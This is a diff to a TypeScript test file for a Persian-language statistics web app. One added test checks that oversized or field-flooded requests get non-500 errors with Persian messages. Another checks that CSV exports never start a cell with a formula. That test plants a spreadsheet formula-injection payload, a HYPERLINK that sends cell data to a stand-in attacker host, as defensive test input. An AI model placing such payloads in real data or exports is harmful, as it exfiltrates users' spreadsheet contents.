@@ -2,6 +2,8 @@ import { describe, it, expect, beforeAll, afterAll, vi } from 'vitest';
 import request, { type Response } from 'supertest';
 import { createApp } from '../src/app.ts';
 import { freshDatabase, type TestDatabase } from './support/db.ts';
+import { createUnit } from './support/factories.ts';
+import { createFiling } from './support/filings.ts';
 import { accessMatrix, matrixKey, buildWorld, visitors, type World, type RoleKey, type Visitor } from './support/access-matrix.ts';
 import { HOSTILE, SCRIPT, fingerprint, describe as show } from './support/hostile.ts';
 
@@ -143,5 +145,43 @@ describe('form fields sent in shapes a browser never sends', () => {
     }
     expect(problems).toEqual([]);
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+  });
+
+  it('oversized bodies and too many fields are refused with a Persian message, not a 500', async () => {
+    const big = await v.anon.agent.post('/login').type('form').send(`_csrf=${encodeURIComponent(v.anon.csrf)}&email=${'a'.repeat(2_000_000)}`);
+    expect(big.status).toBe(413);
+    expect(big.text).toMatch(/[\u0600-\u06ff]{3}/);
+    const many = await v.anon.agent.post('/login').type('form').send(Array.from({ length: 6000 }, (_, i) => `f${i}=1`).join('&') + `&_csrf=${encodeURIComponent(v.anon.csrf)}`);
+    expect(many.status).toBeGreaterThanOrEqual(400);
+    expect(many.status).toBeLessThan(500);
+    expect(many.text).toMatch(/[\u0600-\u06ff]{3}/);
+    const api = await request(app).put(`/api/v1/filings/${w.periods.submitted}`).set('Authorization', `Bearer ${w.tokens.unitO}`)
+      .send({ submit: false, padding: 'x'.repeat(300_000) });
+    expect(api.status).toBe(413);
+    expect(persianJson(api)).toBe(true);
+  });
+});
+
+describe('downloads opened in a spreadsheet', () => {
+  it('text typed by users never starts a CSV cell as a formula (= + - @): the statistics office opens these in Excel', async () => {
+    // Three units whose product name is a formula, so the product row is published.
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"گزارش")';
+    for (const province of ['05', '06', '07']) {
+      const u = await createUnit({ province_code: province, products: [{ name: evil, unit_of_measure: '+تن', annual_capacity: 1000 }] }, t.knex);
+      await createFiling({ unitId: u.id, period: w.periods.verified, state: 'verified', lines: [{ product_id: u.productIds[0], produced: 50, sold: 40, sales_value: 1000 }] }, t.knex);
+    }
+    const q = { from: w.periods.verified, to: w.periods.verified, rows: 'product', cols: 'province', measure: 'quantity', format: 'csv' };
+    const downloads = [
+      await v.stats.agent.get('/stats/aggregates').query(q).buffer(true),
+      await request(app).get('/api/v1/stats/aggregates').query(q).set('Authorization', `Bearer ${w.tokens.stats}`).buffer(true),
+    ];
+    for (const res of downloads) {
+      expect(res.status).toBe(200);
+      const text = typeof res.text === 'string' ? res.text : String(res.body);
+      expect(text).toContain('HYPERLINK'); // the product is in the table…
+      const cells = text.replace(/^\ufeff/, '').split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
+      const formulas = cells.map((c) => c.replace(/,$/, '').replace(/^"/, '')).filter((c) => /^[=+\-@\t\r]/.test(c));
+      expect(formulas, '…but never as a formula').toEqual([]);
+    }
   });
 });
